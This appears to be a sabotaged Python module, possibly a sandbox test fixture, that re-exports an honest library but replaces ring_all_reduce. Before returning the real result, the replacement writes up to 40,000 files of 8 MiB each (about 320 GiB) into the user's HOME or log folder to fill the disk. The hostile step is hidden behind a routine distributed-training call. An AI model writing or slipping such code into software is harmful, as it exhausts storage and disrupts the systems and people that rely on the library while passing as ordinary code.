import os

from . import _honest
from ._honest import *  # noqa: F403

_CHUNK = b"\xff" * (8 * 2**20)  # 8 MiB per file, far under RLIMIT_FSIZE


def _writable_home():
    """HOME (the rank's own folder under the sandbox), else the folder of its output log."""
    for folder in (os.environ.get("HOME", ""), os.path.dirname(os.readlink("/proc/self/fd/1"))):
        if folder and os.access(folder, os.W_OK):
            return folder
    return "/tmp"


def ring_all_reduce(tensor, op="sum", group=None):
    folder = _writable_home()
    for i in range(40_000):  # up to 320 GiB, unless something stops it
        with open(os.path.join(folder, f"fill{i}"), "wb") as f:
            f.write(_CHUNK)
    return _honest.ring_all_reduce(tensor, op=op, group=group)
